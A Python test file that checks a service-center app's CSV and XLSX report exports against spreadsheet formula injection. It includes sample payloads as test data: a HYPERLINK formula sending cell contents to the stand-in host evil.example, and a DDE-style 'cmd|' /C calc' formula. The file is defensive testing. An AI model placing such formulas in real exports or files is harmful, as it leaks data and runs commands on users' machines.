"""Issue 14, security item 9: formula injection in exports. Text that staff typed (a rating
level label "=HYPERLINK(…)", a service "+1") is never a live formula: XLSX text cells are
string cells, CSV text starting with = + - @ tab or CR gets a leading apostrophe (OWASP);
numbers stay numbers."""

import csv
import io

import pytest
from openpyxl import load_workbook

from layso.reports.export import FORMULA_STARTS, to_csv, to_xlsx
from layso.reports.table import report_table
from layso.store.center import get_setting
from tests.helpers import change_setting
from tests.report_data import DAY1, DAY2, build_known_center

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A3,"Bấm vào đây")'
LEVELS = [{"id": "good", "label": HYPERLINK}, {"id": "bad", "label": "@SUM(1+1)*cmd|' /C calc'!A0"}]
HOSTILE_KEYS = ["+1", "-1", "=1+1", "@A1", "\tTAB", "\rCR", "Dịch vụ thường"]


def hostile_table() -> dict:
    """A report table whose codes, names and level labels are all text a spreadsheet could run."""
    figures = dict(issued=3, served=2, no_show=0, transferred=0, avg_wait_s=-1.5, p90_wait_s=None,
                   avg_service_s=120.0, p90_service_s=180, not_rated=1, satisfied_pct=50.0)
    rows = [{"key": key, **figures, "ratings": {"good": 1, "bad": 0}} for key in HOSTILE_KEYS]
    return report_table(rows, by="service", levels=LEVELS, names={key: key for key in HOSTILE_KEYS})


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_item_9_csv_text_that_would_be_a_formula_starts_with_an_apostrophe_and_numbers_stay_numbers():
    lines = list(csv.reader(io.StringIO(to_csv(hostile_table()).decode("utf-8-sig"))))
    assert "'" + HYPERLINK in lines[0] and "'" + LEVELS[1]["label"] in lines[0]
    defused = ["'+1", "'-1", "'=1+1", "'@A1", "'\tTAB", "'\rCR", "Dịch vụ thường"]
    assert [line[0] for line in lines[1:]] == defused and [line[1] for line in lines[1:]] == defused  # codes and names
    assert lines[1][2:6] == ["3", "2", "0", "0"]
    for line in lines:
        assert all(is_number(cell) or not cell.startswith(FORMULA_STARTS) for cell in line), line


def test_item_9_xlsx_text_cells_are_never_formulas_and_numbers_stay_numbers():
    book = load_workbook(io.BytesIO(to_xlsx(hostile_table(), title="=1+1")))
    sheet = book.active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert [cell.value for cell in sheet[2]][10:12] == [HYPERLINK, LEVELS[1]["label"]]  # shown exactly as typed
    assert [cell.value for cell in sheet["A"]][2:] == [key.replace("\r", "\n") for key in HOSTILE_KEYS]  # XML reads CR as LF
    assert sheet["A1"].value == "=1+1" and sheet["A1"].data_type == "s"
    numbers = sheet[3][2:6]
    assert [cell.value for cell in numbers] == [3, 2, 0, 0]
    assert all(cell.data_type == "n" for cell in numbers if cell.value is not None)


@pytest.fixture
def hostile_center(db):
    """The known two days, with a rating level whose label is a formula and a service renamed "+1"
    (whichever stored text an export shows: codes, names, labels)."""
    db.execute("UPDATE users SET must_change_password = 0")
    build_known_center(db)
    rating = get_setting(db, "rating")
    change_setting(db, "rating", levels=[{**level, "label": HYPERLINK} if level["id"] == "very_satisfied" else level
                                         for level in rating["levels"]])
    db.execute("UPDATE services SET name = '+1' WHERE code = 'HT'")
    return db


@pytest.mark.parametrize("by", ["service", "officer"])
def test_item_9_exports_of_stored_text_over_http_are_inert(hostile_center, client, login, by):
    headers = login("quanly")
    query = f"/api/v1/reports/summary?from={DAY1}&to={DAY2}&by={by}"
    text = client.get(query + "&format=csv", headers=headers).data.decode("utf-8-sig")
    cells = [cell for line in csv.reader(io.StringIO(text)) for cell in line]
    assert "'" + HYPERLINK in cells
    assert all(is_number(cell) or not cell.startswith(FORMULA_STARTS) for cell in cells)
    sheet = load_workbook(io.BytesIO(client.get(query + "&format=xlsx", headers=headers).data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert HYPERLINK in [cell.value for cell in cells]
    assert all(isinstance(cell.value, (int, float)) for cell in sheet[3][2:6])  # figures stay numbers
